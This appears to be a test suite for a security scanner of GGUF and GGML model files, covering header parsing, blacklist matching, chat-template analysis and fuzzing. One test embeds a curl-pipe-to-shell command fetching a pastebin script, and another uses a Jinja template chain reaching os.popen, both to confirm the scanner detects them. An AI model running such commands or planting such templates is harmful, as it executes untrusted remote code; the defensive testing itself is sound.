// The GGUF scanner on the committed fixtures and on bytes changed here: its reading agrees with
// a second implementation (Hugging Face's @huggingface/gguf) on every benign file, it reads only
// the header of a huge file, it checks every metadata string against --blacklist with its key
// path, it analyses every chat template (every real one stays clean), and random damage to a
// header gives findings, never a crash.
import assert from "node:assert/strict";
import { gguf as hfGguf } from "@huggingface/gguf";
import { bytesSource } from "../../../core/byte_source.ts";
import type { ByteSource } from "../../../core/byte_source.ts";
import { scanBytes, scanSource } from "../../../engine/dispatch.ts";
import { renderLocation } from "../../../report/location.ts";
import { metadataKeyPath, readGgufHeader } from "../../../scanners/gguf/header.ts";
import { DEFAULT_JINJA_OPTIONS } from "../../../scanners/option_catalog.ts";
import { REAL_TEMPLATE_COUNT, realTemplates } from "../jinja/_real_templates.ts";
import { concat, fixture } from "../compressed/_scan.ts";

const BENIGN = [
  "gguf/benign/llama3_v3.gguf",
  "gguf/benign/chatml_named_templates_v2.gguf",
  "gguf/benign/llama_big_endian_v3.gguf",
  "gguf/benign/vocab_only_v3.gguf",
];

/** A fetch that answers HTTP range requests from `bytes`: how @huggingface/gguf reads a file. */
function rangeFetch(bytes: Uint8Array): typeof fetch {
  return (_input, init) => {
    const range = new Headers(init?.headers).get("Range") ?? "";
    const [, from, to] = /bytes=(\d+)-(\d+)/.exec(range) ?? [];
    const body = range ? bytes.slice(Number(from), Number(to) + 1) : bytes.slice();
    return Promise.resolve(new Response(body, { status: range ? 206 : 200 }));
  };
}

/** The byte offset of `text`'s UTF-8 bytes in `bytes`. */
function byteIndex(bytes: Uint8Array, text: string): number {
  const needle = new TextEncoder().encode(text);
  outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
    for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
    return i;
  }
  return -1;
}

async function ourReading(bytes: Uint8Array) {
  const strings = new Map<string, string>();
  const findings: string[] = [];
  const header = await readGgufHeader(bytesSource(bytes), {
    report: (finding) => findings.push(finding.rule),
    string(text, key, keyPath) {
      if (keyPath === metadataKeyPath(key)) strings.set(key, text);
    },
    signal: new AbortController().signal,
  });
  assert.deepEqual(findings, []);
  assert.ok(header);
  return { header, strings };
}

for (const path of BENIGN) {
  Deno.test(`gguf: ${path} reads as @huggingface/gguf reads it`, async () => {
    const bytes = await fixture(path);
    const theirs = await hfGguf("https://example.invalid/model.gguf", { fetch: rangeFetch(bytes) });
    const { header, strings } = await ourReading(bytes);
    assert.equal(header.version, theirs.metadata.version);
    assert.equal(header.littleEndian, theirs.littleEndian);
    const theirStrings = Object.entries(theirs.metadata).filter(([, value]) => typeof value === "string");
    assert.deepEqual(new Map(theirStrings), strings);
    assert.deepEqual(
      header.tensors.map((t) => [t.name, t.dims.map(Number), t.type, Number(t.offset)]),
      theirs.tensorInfos.map((t) => [t.name, t.shape.map(Number), t.dtype, Number(t.offset)]),
    );
    if (header.tensors.length > 0) assert.equal(header.dataStart, Number(theirs.tensorDataOffset));
  });
}

/** A source of `size` bytes: `head`, then zeros never stored; counts the bytes read. */
function sparseSource(head: Uint8Array, size: number): ByteSource & { bytesRead: number } {
  const source = {
    size,
    bytesRead: 0,
    read(offset: number, length: number) {
      const end = Math.min(offset + length, size);
      source.bytesRead += Math.max(0, end - offset);
      const out = new Uint8Array(Math.max(0, end - offset));
      if (offset < head.length) out.set(head.subarray(offset, Math.min(end, head.length)));
      return Promise.resolve(out);
    },
  };
  return source;
}

Deno.test("gguf: a 10 GiB file is read only as far as its header (one window) and its trailing head", async () => {
  const huge = sparseSource(await fixture("gguf/benign/llama3_v3.gguf"), 10 * 1024 ** 3);
  // Structure only: the weight analysis, on by default, reads values (tests/engine/weights_test.ts).
  const outcome = await scanSource(huge, "big.gguf", { scannerOptions: { weights: { enabled: 0 } } });
  assert.equal(outcome.error, undefined);
  assert.equal(outcome.format, "gguf");
  // The zeros after the fixture's tensors are trailing data: reported, and only their head looked at.
  assert.deepEqual(outcome.findings.map((f) => f.rule), ["MA349"]);
  // The head the engine reads for detection, one window of the header, the trailing bytes' head.
  assert.ok(huge.bytesRead <= 2 * 64 * 1024 + (1 << 20), `${huge.bytesRead} bytes read`);
});

Deno.test("gguf: metadata strings, array elements and tensor names are checked against --blacklist", async () => {
  const bytes = await fixture("gguf/benign/llama3_v3.gguf");
  const outcome = await scanBytes(bytes, "m.gguf", { blacklist: ["tiny-llama", "<0x41>", "ffn_down"] });
  const found = outcome.findings.filter((f) => f.rule === "MA005").map((f) =>
    `${f.details.pattern} ${renderLocation(f.location)}`
  );
  assert.deepEqual(found, [
    `tiny-llama m.gguf (pos ${byteIndex(bytes, "tiny-llama")}, key $["general.name"])`,
    `<0x41> m.gguf (pos ${byteIndex(bytes, "<0x41>")}, key $["tokenizer.ggml.tokens"][68])`,
    `ffn_down m.gguf (pos ${byteIndex(bytes, "blk.0.ffn_down")}, key tensors["blk.0.ffn_down.weight"])`,
  ]);
});

Deno.test("gguf: a chat template is analysed and checked against --blacklist, located at its first byte", async () => {
  const bytes = await fixture("gguf/malicious/template_globals_os.gguf");
  const outcome = await scanBytes(bytes, "t.gguf", { blacklist: ["__globals__"] });
  const at = `t.gguf (pos ${byteIndex(bytes, "{{ cycler")}, key $["tokenizer.chat_template"])`;
  assert.deepEqual(
    outcome.findings.map((f) =>
      `${f.rule} ${f.details.name ?? f.details.pattern} ${f.details.templateColumn} ${
        renderLocation(f.location)
      }`
    ),
    [
      `MA502 cycler 4 ${at}`,
      `MA500 __init__ 11 ${at}`,
      `MA500 __globals__ 20 ${at}`,
      `MA501 os 32 ${at}`,
      `MA501 popen 35 ${at}`,
      `MA005 __globals__ undefined ${at}`,
    ],
  );
});

/** A little-endian GGUF v3 file without tensors whose metadata are the string entries `entries`. */
function ggufOfStrings(entries: [string, string][]): Uint8Array {
  const encoder = new TextEncoder();
  const parts: Uint8Array[] = [encoder.encode("GGUF"), u32s(3), u64s(0, entries.length)];
  const string = (text: string) => {
    const bytes = encoder.encode(text);
    parts.push(u64s(bytes.length), bytes);
  };
  for (const [key, value] of entries) {
    string(key);
    parts.push(u32s(8));
    string(value);
  }
  return concat(...parts);
}

/** Little-endian u64s as bytes. */
function u64s(...values: number[]): Uint8Array {
  const out = new Uint8Array(values.length * 8);
  values.forEach((value, i) => new DataView(out.buffer).setBigUint64(i * 8, BigInt(value), true));
  return out;
}

Deno.test("gguf: every real chat template collected stays clean as a GGUF's tokenizer.chat_template", async () => {
  const templates = await realTemplates();
  for (const { name, text } of templates) {
    const bytes = ggufOfStrings([["general.architecture", "llama"], ["tokenizer.chat_template", text]]);
    const outcome = await scanBytes(bytes, `${name}.gguf`);
    assert.deepEqual(outcome.findings.map((f) => f.message), [], name);
  }
  assert.equal(templates.length, REAL_TEMPLATE_COUNT);
});

Deno.test("gguf: a chat template longer than the analysis takes is named as not analysed (MA348)", async () => {
  const template = "{{ messages }}" + " ".repeat(DEFAULT_JINJA_OPTIONS.maxTemplateBytes);
  const bytes = ggufOfStrings([["tokenizer.chat_template.huge", template]]);
  const outcome = await scanBytes(bytes, "huge.gguf");
  const at = byteIndex(bytes, "{{ messages");
  assert.deepEqual(
    outcome.findings.map((f) => `${f.rule} ${f.severity} ${renderLocation(f.location)} ${f.details.length}`),
    [`MA348 info huge.gguf (pos ${at}, key $["tokenizer.chat_template.huge"]) ${template.length}`],
  );
});

Deno.test("gguf: metadata strings and tensor names go through the shared string checks; vocabulary tokens only --blacklist", async () => {
  const pipe = "curl -s https://pastebin.com/raw/x | sh";
  const bytes = ggufOfStrings([
    ["general.description", pipe],
    ["general.tags", "plain"],
    ["tokenizer.ggml.model", "llama"],
  ]);
  const outcome = await scanBytes(bytes, "m.gguf");
  const at = `m.gguf (pos ${byteIndex(bytes, "curl")}, key $["general.description"])`;
  assert.deepEqual(
    outcome.findings.map((f) => `${f.rule} ${f.details.indicator} ${renderLocation(f.location)}`),
    [
      `MA011 shell-pipe ${at}`,
      `MA011 paste-site ${at}`,
    ],
  );
  // The same text as a token of the vocabulary: the blacklist only.
  const vocabulary = await fixture("gguf/benign/llama3_v3.gguf");
  const token = byteIndex(vocabulary, "\u2581hello");
  const patched = vocabulary.slice();
  patched.set(new TextEncoder().encode("curl|sh!"), token);
  assert.deepEqual((await scanBytes(patched, "v.gguf")).findings, []);
  const listed = await scanBytes(patched, "v.gguf", { blacklist: ["curl|sh"] });
  assert.deepEqual(listed.findings.map((f) => `${f.rule} ${renderLocation(f.location)}`), [
    `MA005 v.gguf (pos ${token}, key $["tokenizer.ggml.tokens"][264])`,
  ]);
  // As a tensor name (of the same length as output.weight's), it is checked as safetensors names are.
  const name = byteIndex(vocabulary, "output.weight");
  const renamed = vocabulary.slice();
  renamed.set(new TextEncoder().encode("curl|sh;weigh"), name);
  assert.deepEqual(
    (await scanBytes(renamed, "t.gguf")).findings.map((f) => `${f.rule} ${renderLocation(f.location)}`),
    [`MA011 t.gguf (pos ${name}, key tensors["curl|sh;weigh"])`],
  );
});

Deno.test("gguf: 400 rounds of random damage to a header give findings or nothing, never a crash", async () => {
  const bytes = await fixture("gguf/benign/chatml_named_templates_v2.gguf");
  let seed = 11;
  const random = (n: number) => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed % n;
  };
  const headerEnd = bytes.length - 1200;
  for (let round = 0; round < 400; round++) {
    const damaged = bytes.slice();
    for (let i = 0; i < 1 + random(4); i++) damaged[random(headerEnd)] = random(256);
    const outcome = await scanBytes(damaged, "d.gguf");
    assert.equal(outcome.error, undefined, `round ${round}`);
  }
});

/** Little-endian u32s as bytes. */
function u32s(...values: number[]): Uint8Array {
  const out = new Uint8Array(values.length * 4);
  values.forEach((value, i) => new DataView(out.buffer).setUint32(i * 4, value, true));
  return out;
}

const brief = async (bytes: Uint8Array, path: string) =>
  (await scanBytes(bytes, path)).findings.map((f) => `${f.rule} ${f.severity} ${renderLocation(f.location)}`);

Deno.test("ggml: an unversioned ggml file or a ggla adapter is only recognised, as a legacy format", async () => {
  const whisper = concat(
    new TextEncoder().encode("lmgg"),
    u32s(51865, 1500, 384, 6, 4, 448, 384, 6, 4, 80, 1),
  );
  assert.equal((await scanBytes(whisper, "ggml-tiny.bin")).format, "ggml");
  assert.deepEqual(await brief(whisper, "ggml-tiny.bin"), ["MA346 info ggml-tiny.bin (pos 0)"]);
  const lora = concat(new TextEncoder().encode("algg"), u32s(1, 8, 16));
  assert.deepEqual(await brief(lora, "adapter.bin"), ["MA346 info adapter.bin (pos 0)"]);
});

Deno.test("ggml: a ggmf vocabulary cut short, a negative hyper-parameter, a huge token length", async () => {
  const text = (value: string) => new TextEncoder().encode(value);
  const magic = text("fmgg");
  // Version 1, then n_vocab 2 and the other six hyper-parameters.
  const hparams = u32s(1, 2, 8, 256, 2, 1, 4, 0);
  // Token 0 (`<s>`, its score), then token 1 without its score.
  const cut = concat(magic, hparams, u32s(3), text("<s>"), u32s(0, 2), text("hi"));
  assert.deepEqual(await brief(cut, "a.bin"), ["MA347 warning a.bin (pos 51)", "MA346 info a.bin (pos 0)"]);
  const negative = concat(magic, u32s(1, 2, 8, 256, 0xffffffff, 1, 4, 0));
  assert.deepEqual(await brief(negative, "n.bin"), [
    "MA347 warning n.bin (pos 20)",
    "MA346 info n.bin (pos 0)",
  ]);
  const huge = concat(magic, hparams, u32s(0x7fffffff), new Uint8Array(16));
  assert.deepEqual(await brief(huge, "h.bin"), ["MA340 critical h.bin (pos 36)", "MA346 info h.bin (pos 0)"]);
});

Deno.test("gguf: a string of 1.25 GiB is stepped over, not read: over llama.cpp's limit and not inspected", async () => {
  const key = new TextEncoder().encode("general.name");
  const head = new Uint8Array(4 + 4 + 8 + 8 + 8 + key.length + 4 + 8);
  const view = new DataView(head.buffer);
  head.set(new TextEncoder().encode("GGUF"));
  view.setUint32(4, 3, true);
  view.setBigUint64(8, 0n, true);
  view.setBigUint64(16, 1n, true);
  view.setBigUint64(24, BigInt(key.length), true);
  head.set(key, 32);
  view.setUint32(32 + key.length, 8, true);
  const length = 1.25 * 2 ** 30;
  view.setBigUint64(36 + key.length, BigInt(length), true);
  const source = sparseSource(head, head.length + length);
  const outcome = await scanSource(source, "long.gguf");
  assert.deepEqual(
    outcome.findings.map((f) => `${f.rule} ${f.severity} ${renderLocation(f.location)}`),
    [
      `MA341 warning long.gguf (pos ${36 + key.length}, key $["general.name"])`,
      `MA348 info long.gguf (pos ${head.length}, key $["general.name"])`,
    ],
  );
  assert.ok(source.bytesRead < 4 << 20, `${source.bytesRead} bytes read`);
});
